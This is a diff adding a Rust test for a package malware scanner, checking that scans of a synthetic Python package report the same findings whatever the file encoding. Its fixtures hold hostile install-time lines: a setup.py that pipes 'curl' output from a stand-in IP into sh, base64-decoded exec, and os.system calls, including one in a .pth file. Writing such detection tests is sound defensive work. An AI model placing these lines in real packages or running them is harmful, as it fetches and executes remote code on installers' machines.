@@ -251,3 +251,40 @@ fn findings_cap_follows_the_scanner_setting() {
     assert_eq!(count(Scanner::new()), 30);
     assert_eq!(count(Scanner::new().max_findings_per_rule(10)), 10);
 }
+
+#[test]
+fn an_owned_scan_reports_the_same_whatever_the_encoding() {
+    let file = |path: &str, data: &[u8]| artifact::PackageFile {
+        path: path.to_owned(),
+        data: data.to_vec().into(),
+        mode: None,
+    };
+    let files = vec![
+        file(
+            "setup.py",
+            b"import os\nos.system('curl http://203.0.113.7/x | sh')\n",
+        ),
+        // Shared: UTF-8 with no byte-order mark reads as itself.
+        file(
+            "pkg/__init__.py",
+            b"import base64\nexec(base64.b64decode('aWQ='))\n",
+        ),
+        // Not shared: the mark is not part of the source text...
+        file("pkg/marked.py", b"\xef\xbb\xbfimport os\nos.system('id')\n"),
+        // ...nor are Latin-1 bytes.
+        file(
+            "pkg/legacy.py",
+            b"# -*- coding: latin-1 -*-\nimport os\nos.system('echo \xe9; id')\n",
+        ),
+        file("pkg-init.pth", b"import os; os.system('id')\n"),
+    ];
+    let package = artifact::Package::from_files("pkg".into(), files);
+    let scanner = Scanner::new();
+    let borrowed = scanner.scan_package(&package);
+    assert!(borrowed.findings.len() > 3, "{:?}", rules(&borrowed));
+    let owned = scanner.scan_owned_package(package);
+    assert_eq!(
+        serde_json::to_string(&owned).unwrap(),
+        serde_json::to_string(&borrowed).unwrap()
+    );
+}
